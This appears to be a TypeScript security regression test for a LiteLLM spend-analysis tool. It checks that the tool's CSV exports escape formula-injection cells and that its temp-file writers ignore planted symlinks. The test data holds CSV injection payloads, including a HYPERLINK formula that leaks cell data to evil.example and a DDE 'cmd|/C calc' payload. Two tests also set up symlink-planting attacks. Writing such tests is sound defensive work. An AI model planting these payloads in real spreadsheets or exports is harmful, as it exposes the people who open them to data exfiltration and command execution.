// Issue 16, findings 3 (CSV formula injection) and 6 (temp files that follow a planted symlink), against real
// PostgreSQL: hostile cells set the way proxy callers set them (user/team aliases), read back through every
// writer the product has.
import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { writeCsv } from '../../src/core/analyses/writers';
import { writeDryRunBody } from '../../src/core/cbf/anycostDryRun';
import { openDatabase, type LensDatabase } from '../../src/core/db/database';
import { exportQuery } from '../../src/extension/logic/exportQuery';
import { runCliCapture } from '../support/runCliCapture';
import { createTestDatabase, type TestDatabase } from '../support/testDatabase';

/** Cells a spreadsheet would evaluate (OWASP CSV Injection), and look-alikes that must stay as they are. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)*cmd|/C calc!A0', '+1+1', '-2+3+cmd|x', '\tTAB', '\rCR'];
const HARMLESS = ['-12.5', 'a=b', 'plain alias'];

/** Every cell of a parsed CSV. */
function cells(text: string, delimiter = ','): string[] {
  return (parse(text, { delimiter, relax_column_count: true }) as string[][]).flat();
}

function assertEscaped(found: string[], where: string): void {
  for (const h of HOSTILE) {
    assert.ok(found.includes(`'${h}`), `${where}: ${JSON.stringify(h)} is written as '${JSON.stringify(h)}`);
    assert.ok(!found.includes(h), `${where}: ${JSON.stringify(h)} is not written verbatim`);
  }
  for (const h of HARMLESS) assert.ok(found.includes(h), `${where}: ${JSON.stringify(h)} stays as it is`);
}

describe('security: one CSV encoder escapes formulas; one atomic writer never follows a symlink (real PostgreSQL)', () => {
  let tdb: TestDatabase;
  let db: LensDatabase;
  let dir: string;
  const day = '2023-03-01';

  before(async () => {
    tdb = await createTestDatabase({ version: '1.83' });
    db = await openDatabase({ url: tdb.url, statementTimeoutMs: 10_000 });
    dir = mkdtempSync(join(tmpdir(), 'lens-sec-files-'));
    const aliases = [...HOSTILE, ...HARMLESS];
    for (const [i, alias] of aliases.entries()) {
      await tdb.admin.query(`INSERT INTO "LiteLLM_UserTable" (user_id, user_alias) VALUES ($1, $2)`, [`sec-user-${i}`, alias]);
      await tdb.admin.query(`INSERT INTO "LiteLLM_TeamTable" (team_id, team_alias, members_with_roles) VALUES ($1, $2, '[]')`, [
        `sec-team-${i}`,
        alias,
      ]);
      // As db_spend_update_writer.py upserts a daily row (one per user/date/key/model/...): '' for absent ids.
      await tdb.admin.query(
        `INSERT INTO "LiteLLM_DailyUserSpend" (id, user_id, date, api_key, model, model_group, custom_llm_provider,
          prompt_tokens, completion_tokens, cache_read_input_tokens, cache_creation_input_tokens, spend, api_requests, successful_requests, failed_requests, updated_at)
        VALUES ($1, $2, $3, 'sk-sec', 'gpt-4o', 'gpt-4o', 'openai', 10, 5, 0, 0, 0.25, 1, 1, 0, now())`,
        [`sec-daily-${i}`, `sec-user-${i}`, day],
      );
    }
  });
  after(async () => {
    await db?.close();
    await tdb?.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  const aliasSql = `SELECT user_alias FROM "LiteLLM_UserTable" WHERE user_id LIKE 'sec-user-%' ORDER BY user_id`;

  test('Export Results (CSV) escapes formula cells, any delimiter', async () => {
    for (const delimiter of [',', ';']) {
      const out = join(dir, `results${delimiter === ',' ? 'comma' : 'semi'}.csv`);
      const summary = await exportQuery(db, aliasSql, [], { format: 'csv', out, delimiter });
      assert.equal(summary.rows, HOSTILE.length + HARMLESS.length);
      assertEscaped(cells(readFileSync(out, 'utf8'), delimiter), `results export (${delimiter})`);
    }
  });

  test('Export Results (JSON) keeps values exact: JSON is not a spreadsheet', async () => {
    const out = join(dir, 'results.json');
    await exportQuery(db, aliasSql, [], { format: 'json', out });
    const values = (JSON.parse(readFileSync(out, 'utf8')) as { user_alias: string }[]).map((r) => r.user_alias);
    for (const h of [...HOSTILE, ...HARMLESS]) assert.ok(values.includes(h));
  });

  test('analysis CSV (file and CLI stdout) escapes formula cells', async () => {
    const out = join(dir, 'analysis.csv');
    await writeCsv(out, { columns: [{ name: 'user_alias', type: 'text' }], batches: db.cursor(aliasSql) });
    assertEscaped(cells(readFileSync(out, 'utf8')), 'analysis file');
  });

  test('attribution --format csv escapes formula aliases', async () => {
    const run = await runCliCapture(['attribution', '--db', tdb.url, '--from', day, '--to', day, '--format', 'csv']);
    assert.equal(run.code, 0, run.stderr);
    const found = cells(run.stdout);
    for (const h of HOSTILE) assert.ok(!found.includes(h), `attribution: ${JSON.stringify(h)} is not written verbatim`);
    assert.ok(found.includes(`'${HOSTILE[0]}`), 'attribution: the alias is there, escaped');
  });

  test('CBF CSV: verbatim by default (what CloudZero stores), escaped with --escape-formulas', async () => {
    const plain = join(dir, 'cbf.csv');
    const escaped = join(dir, 'cbf-escaped.csv');
    const base = ['export', '--db', tdb.url, '--source', 'user', '--from', day, '--to', day];
    assert.equal((await runCliCapture([...base, '--out', plain])).code, 0);
    const withFlag = await runCliCapture([...base, '--out', escaped, '--escape-formulas']);
    assert.equal(withFlag.code, 0, withFlag.stderr);
    const plainCells = cells(readFileSync(plain, 'utf8'));
    for (const h of HOSTILE.slice(0, 4)) assert.ok(plainCells.includes(h), `default CBF keeps ${JSON.stringify(h)} verbatim`);
    assertEscaped(
      cells(readFileSync(escaped, 'utf8')).filter((c) => !c.startsWith('czrn') && !c.startsWith('llm-usage')),
      'CBF --escape-formulas',
    );
    const jsonl = await runCliCapture([...base, '--out', join(dir, 'x.jsonl'), '--escape-formulas']);
    assert.equal(jsonl.code, 2, 'formula escaping is a CSV option');
  });

  test('Export Results never follows a symlink planted at a temp name (the old `${out}.${pid}.partial`)', async () => {
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'precious\n');
    const out = join(dir, 'planted.csv');
    symlinkSync(victim, `${out}.${process.pid}.partial`);
    await exportQuery(db, aliasSql, [], { format: 'csv', out });
    assert.equal(readFileSync(victim, 'utf8'), 'precious\n', 'the symlink target is untouched');
    assert.ok(!lstatSync(out).isSymbolicLink());
    assert.equal(cells(readFileSync(out, 'utf8')).length, 1 + HOSTILE.length + HARMLESS.length);
  });

  test('AnyCost dry-run bodies never follow a symlink planted at a temp name (the old `${file}.tmp`)', async () => {
    const bodies = join(dir, 'bodies');
    rmSync(bodies, { recursive: true, force: true });
    mkdirSync(bodies);
    const victim = join(dir, 'victim2.txt');
    writeFileSync(victim, 'precious\n');
    const name = '0001_2023-03_batch-01.json';
    symlinkSync(victim, join(bodies, `${name}.tmp`));
    const body = '{"data":[]}';
    const file = await writeDryRunBody(bodies, 1, { month: '2023-03', index: 1, body } as Parameters<typeof writeDryRunBody>[2]);
    assert.equal(readFileSync(victim, 'utf8'), 'precious\n');
    assert.equal(readFileSync(file, 'utf8'), body);
    assert.deepEqual(
      readdirSync(bodies).filter((f) => f !== `${name}.tmp`),
      [name],
      'no temporary file left',
    );
  });

  test('a failed export leaves neither the target nor a temp file', async () => {
    const out = join(dir, 'failing.csv');
    await assert.rejects(exportQuery(db, 'SELECT 1/(g - 3) FROM generate_series(1, 5) g', [], { format: 'csv', out }));
    assert.equal(existsSync(out), false);
    assert.deepEqual(
      readdirSync(dir).filter((f) => f.includes('failing')),
      [],
    );
  });
});
